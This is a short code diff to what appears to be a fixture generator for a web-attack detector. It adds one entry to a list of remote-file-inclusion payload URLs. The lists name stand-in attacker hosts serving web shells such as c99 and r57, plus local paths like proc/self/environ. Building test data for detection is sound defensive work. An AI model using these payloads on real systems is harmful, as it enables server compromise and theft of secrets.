@@ -44,7 +44,10 @@ FILL = {
                "proc/self/environ", "etc/hosts", "etc/issue"],
     "XXpathXX": ["http://203.0.113.9/shell.txt?", "http://evil.example.com/c99.txt?",
                  "https://attacker.example.net/r57.php", "ftp://198.51.100.3/pub/inc.txt",
-                 "http://evil.example.org/id.txt?", "http://198.51.100.20/x?"],
+                 "http://evil.example.org/id.txt?", "http://198.51.100.20/x?",
+                 # no trailing '?', no payload extension, a host name: only
+                 # the parameter's name can tell this one from a redirect
+                 "http://evil.example.com/inc/config"],
 }
 
 BROWSER_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
